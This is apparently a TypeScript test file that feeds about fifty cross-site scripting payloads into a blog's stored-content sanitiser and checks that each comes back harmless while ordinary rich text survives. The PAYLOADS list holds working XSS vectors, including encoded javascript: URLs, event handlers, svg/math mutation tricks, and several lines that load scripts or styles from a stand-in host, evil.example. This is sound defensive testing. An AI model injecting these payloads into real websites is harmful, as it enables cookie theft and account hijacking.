/**
 * Blog HTML is sanitised on write: XSS payloads stored through blog.create come back harmless,
 * and ordinary rich text survives unchanged.
 */
import { describe, expect, it } from 'vitest';

import { blogPostInput } from '../helpers/content-inputs';
import { useContentCast } from '../helpers/roles';

const cast = useContentCast();

/** Stores the HTML as a published post and reads it back as a visitor would. */
async function storeAndRead(content: string) {
  const created = await cast
    .adminApi()
    .blog.create(blogPostInput(cast.team.id, { title: 'Payload', content, published: true }));
  const read = await cast.as('anonymous').api.blog.byId({ id: created.id });
  expect(read.content).toBe(created.content);
  return read.content;
}

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 p br hr blockquote pre code strong b em i u s ul ol li a img iframe table thead tbody tr th td'.split(
    ' ',
  ),
);
const YOUTUBE_EMBED = /^https:\/\/(www\.)?youtube(-nocookie)?\.com\/embed\/[\w-]{11}(\?|$)/;

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * Every problem a browser could execute. The sanitiser escapes `<` in text and quotes and escapes
 * attribute values, so each raw `<` in its output starts a real tag and can be read with a regex.
 */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)) {
    const tag = name.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`tag <${tag}>`);
    for (const [, attr = '', raw = ''] of attributes.matchAll(/\s([^\s="/]+)(?:="([^"]*)")?/g)) {
      const attribute = attr.toLowerCase();
      // Browsers ignore whitespace and control characters inside a URL scheme.
      const value = decodeEntities(raw)
        .replace(/[\s\u0000-\u001f]/g, '')
        .toLowerCase();
      if (attribute.startsWith('on')) found.push(`event handler ${attribute}`);
      if (['style', 'srcdoc', 'formaction', 'action', 'background'].includes(attribute)) {
        found.push(`attribute ${attribute}`);
      }
      if (/(javascript|vbscript|data|livescript):/.test(value)) found.push(`URL ${value}`);
      if (['href', 'src'].includes(attribute) && !/^(https?:|mailto:|\/(?!\/)|#)/.test(value)) {
        found.push(`${attribute} ${value}`);
      }
      if (tag === 'iframe' && attribute === 'src' && !YOUTUBE_EMBED.test(value)) {
        found.push(`iframe ${value}`);
      }
    }
  }
  if (/<(script|style|object|embed|svg|form|math|base|meta|link)/i.test(html)) {
    found.push('forbidden element');
  }
  return found;
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/track.png">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">click</a>',
  '<a href="mailto:a@example.test" onfocus=alert(1) autofocus>mail</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/movie.swf">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<form action="https://evil.example"><input name=q><button formaction=javascript:alert(1)>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<div onclick="alert(1)">x</div>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input onfocus=alert(1) autofocus>',
];

describe('blog content sanitising (stored through blog.create)', () => {
  it('checks a real payload list', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(30);
    // The checker itself must flag what it is meant to flag.
    expect(dangers(PAYLOADS[4]!)).not.toEqual([]);
    expect(dangers('<a href="jav&#x09;ascript:x">a</a>')).not.toEqual([]);
  });

  it.each(PAYLOADS)('stores %s harmlessly', async (payload) => {
    const stored = await storeAndRead(payload);
    expect(dangers(stored)).toEqual([]);
  });

  it('refuses a payload hiding a NUL in a URL scheme before anything is stored', async () => {
    const before = await cast.database().db.blogPost.count();
    await expect(
      storeAndRead('<a href="java\u0000script:alert(1)">click</a>'),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'Must not contain control characters.',
    });
    expect(await cast.database().db.blogPost.count()).toBe(before);
  });

  it('keeps legitimate rich text as it is', async () => {
    const richText = [
      '<h1>Week one</h1><h2>Goals</h2><h3>Details</h3><h4>Notes</h4>',
      '<p>Plain, <strong>bold</strong>, <b>b</b>, <em>em</em>, <i>i</i>, <u>under</u>, <s>gone</s>.<br />Next line.</p>',
      '<blockquote>Quoted.</blockquote>',
      '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol>',
      '<p><a href="https://example.test/page?a=1&amp;b=2" title="Page">link</a> ',
      '<a href="mailto:team@example.test">mail</a> <a href="/series/ai-hackathon">site link</a></p>',
      '<p><a href="https://example.test" rel="noopener noreferrer" target="_blank">new tab</a></p>',
      '<img src="/uploads/blog/photo.png" alt="A photo" width="640" height="480" />',
      '<img src="https://images.example.test/a.jpg" alt="Remote" />',
      '<pre><code class="language-ts">const x = 1 &lt; 2;</code></pre><p>Inline <code>npm test</code>.</p><hr />',
      '<table><thead><tr><th>Week</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Demo" allowfullscreen></iframe>',
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=10"></iframe>',
    ].join('');

    expect(await storeAndRead(richText)).toBe(richText);
  });

  it('adds rel="noopener noreferrer" to links that open a new tab, drops other targets', async () => {
    expect(
      await storeAndRead('<a href="https://x.example" target="_blank" rel="opener">x</a>'),
    ).toBe('<a href="https://x.example" rel="noopener noreferrer" target="_blank">x</a>');
    expect(await storeAndRead('<a href="https://x.example" target="_top">x</a>')).toBe(
      '<a href="https://x.example">x</a>',
    );
  });

  it('keeps site paths and fragments but drops page-relative URLs', async () => {
    expect(await storeAndRead('<p><a href="#notes">a</a><a href="notes.html">b</a></p>')).toBe(
      '<p><a href="#notes">a</a><a>b</a></p>',
    );
    expect(await storeAndRead('<img src="/uploads/a.png" /><img src="a.png" />')).toBe(
      '<img src="/uploads/a.png" /><img />',
    );
  });

  it('keeps the text of dropped tags, but not the content of scripts and styles', async () => {
    expect(await storeAndRead('<div><span>Kept text</span></div><script>gone()</script>')).toBe(
      'Kept text',
    );
    expect(await storeAndRead('<p>a<style>p{}</style>b</p>')).toBe('<p>ab</p>');
  });

  it('stores an empty paragraph for content with nothing left once sanitised', async () => {
    expect(await storeAndRead('<script>gone()</script>')).toBe('<p></p>');
  });
});
